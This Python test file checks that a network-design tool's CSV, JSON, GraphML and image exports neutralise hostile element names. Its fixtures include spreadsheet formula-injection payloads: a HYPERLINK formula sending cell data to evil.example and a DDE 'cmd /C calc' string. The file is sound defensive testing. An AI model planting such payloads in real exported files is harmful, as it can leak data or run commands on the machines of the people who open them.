"""Hostile names through every export (issue #16 §4, §5): formula prefixes, control
characters, quotes, ``<>&``, right-to-left marks, emoji and 200-character names.

Each export is read back with an independent parser — CSV with :mod:`csv`, XML with
:mod:`xml.etree`, JSON with :mod:`json` — and must be well-formed, with every
spreadsheet cell that could run as a formula neutralised as OWASP recommends (a leading
``'``, the cell quoted)."""

from __future__ import annotations

import csv
import json
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

from model.design import Design
from model.fileformat import save_design
from model.metrics import compute_all
from model.reports.atomic import ExportError
from model.reports.bom import write_bom_csv
from model.reports.csv_safe import csv_field, csv_text, needs_neutralising
from model.reports.graphml import write_graphml
from model.reports.metrics_csv import write_metrics_csv
from model.reports.metrics_json import write_metrics_json
from tests.exports.designs import small_catalog, small_design
from tests.exports.test_cli_export import run_export

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
HOSTILE = {
    "hall-a": FORMULA,
    "pod-1": "+cmd|' /C calc'!A0",
    "racks": "-2+3 racks\x01",
    "leaf": "@SUM(1+1)\x0b<leaf & \"co\">",
    "spine": "\tspine\u202eenips \U0001F600",
    "nic-leaf": "\rNIC ' quote, comma",
    "leaf-spine": ("\u202b\U0001F9E8" * 100)[:200],
}
"""Element id → its hostile name."""
SWITCH_NAME = "=1+1 switch"
FORMULA_START = tuple("=+-@\t\r")


def hostile_design() -> Design:
    """The small export design with every element, the design and the switch model
    renamed (through the design's validated operations)."""
    design = small_design()
    catalog = small_catalog()
    switches = tuple(s.model_copy(update={"name": SWITCH_NAME}) for s in catalog.switches)
    design.set_catalog(catalog.model_copy(update={"switches": switches}))
    design.rename("=Design\x01\x0b <&> \u202e")
    for element_id, name in HOSTILE.items():
        design.update(element_id, name=name)
    return design


def read_rows(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8", newline="") as stream:
        return list(csv.reader(stream))


def assert_cells_safe(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_START):
                float(cell)  # only a plain number may start so (a negative figure)


def test_the_design_accepts_every_hostile_name() -> None:
    design = hostile_design()
    assert {i: getattr(design.element(i), "name", None) for i in HOSTILE} == HOSTILE
    assert len(HOSTILE["leaf-spine"]) == 200


def test_metrics_and_bom_csv_neutralise_formulas(tmp_path: Path) -> None:
    design = hostile_design()
    metrics = compute_all(design)
    write_metrics_csv(design, metrics, tmp_path / "m.csv")
    write_bom_csv(design, metrics, tmp_path / "bom.csv")
    metric_rows, bom_rows = read_rows(tmp_path / "m.csv"), read_rows(tmp_path / "bom.csv")
    assert_cells_safe(metric_rows)
    assert_cells_safe(bom_rows)
    # the names come back whole, behind one quote
    items = {row[1] for row in metric_rows}
    assert f"'{HOSTILE['leaf']}" in items  # the switches section is keyed by tier name
    names = {row[2] for row in bom_rows}
    assert f"'{SWITCH_NAME}" in names  # the bill names parts; bundles are in the cabling
    # and each neutralised cell is quoted in the file itself
    raw = (tmp_path / "bom.csv").read_text(encoding="utf-8")
    assert f"\"'{SWITCH_NAME}\"" in raw


def test_metrics_json_keeps_names_exactly(tmp_path: Path) -> None:
    design = hostile_design()
    write_metrics_json(design, compute_all(design), tmp_path / "m.json")
    report = json.loads((tmp_path / "m.json").read_text(encoding="utf-8"))
    assert report["design"] == design.name
    assert set(report["switches"]) == {HOSTILE["leaf"], HOSTILE["spine"]}


def test_graphml_is_well_formed_with_control_characters(tmp_path: Path) -> None:
    design = hostile_design()
    write_graphml(design, tmp_path / "n.graphml")
    root = ET.parse(tmp_path / "n.graphml").getroot()
    ns = {"g": "http://graphml.graphdrawing.org/xmlns"}
    labels = {d.text for d in root.iterfind(".//g:node/g:data", ns)}
    # \x0b cannot be in XML: it reads back as U+FFFD; <, & and quotes come back as they were
    assert "@SUM(1+1)\ufffd<leaf & \"co\"> 0" in labels
    assert f"{HOSTILE['spine']} 3" in labels
    graph_data = {d.text for d in root.iterfind("./g:graph/g:data", ns)}
    assert "=Design\ufffd\ufffd <&> \u202e" in graph_data


@pytest.mark.parametrize(("cell", "expected"), [
    ("=1+2", "\"'=1+2\""), ("+1", "\"'+1\""), ("-x", "\"'-x\""), ("@a", "\"'@a\""),
    ("\tx", "\"'\tx\""), ("\rx", "\"'\rx\""), ("  =x", "\"'  =x\""), ("\uff1dx", "\"'\uff1dx\""),
    ("-12.5", "-12.5"), ("-1e-05", "-1e-05"), ("plain", "plain"), ("a,b", "\"a,b\""),
    ('say "hi"', '"say ""hi"""'), ("", ""),
])
def test_csv_fields(cell: str, expected: str) -> None:
    assert csv_field(cell) == expected
    assert needs_neutralising(cell) == expected.startswith("\"'")
    # and the csv module reads the field back as the cell (with its quote, if added)
    back = next(csv.reader([csv_text(["h"], [[cell]]).split("\n", 1)[1]], strict=True),
                [""])
    assert back == ([("'" if expected.startswith("\"'") else "") + cell] if cell else [])


def test_pictures_and_pdf_of_hostile_names_from_the_command_line(tmp_path: Path) -> None:
    """SVG, PNG and PDF (Qt) and the other exports, in one run of ``export``."""
    path = tmp_path / "hostile.json"
    save_design(hostile_design(), path)
    out = {kind: tmp_path / f"out.{kind}" for kind in
           ("png", "svg", "pdf", "json", "csv", "bom", "graphml")}
    result = run_export(str(path), "--width", "640",
                        *(arg for kind, p in out.items() for arg in (f"--{kind}", str(p))))
    assert result.returncode == 0, result.stderr
    svg = ET.parse(out["svg"]).getroot()
    title = svg.find("{http://www.w3.org/2000/svg}title")
    assert title is not None and title.text == "=Design\ufffd\ufffd <&> \u202e"
    texts = "".join(svg.itertext())
    assert "\U0001F600" in texts or "\u202e" in texts  # names reached the drawing
    ET.parse(out["graphml"])
    assert out["png"].read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    assert out["pdf"].read_bytes()[:5] == b"%PDF-"
    assert_cells_safe(read_rows(out["csv"]))
    assert_cells_safe(read_rows(out["bom"]))
    json.loads(out["json"].read_text(encoding="utf-8"))


def test_graphml_of_a_network_too_large_to_hold_is_refused(tmp_path: Path) -> None:
    design = small_design()
    design.update("spine", count=1_000_000)
    design.update("leaf-spine", links_per_member=4096)  # 8 leaves × 4096
    design.update("leaf", count=10_000)
    with pytest.raises(ExportError, match="1,010,064 nodes and 40,960,064 links"):
        write_graphml(design, tmp_path / "big.graphml")
    assert list(tmp_path.iterdir()) == []
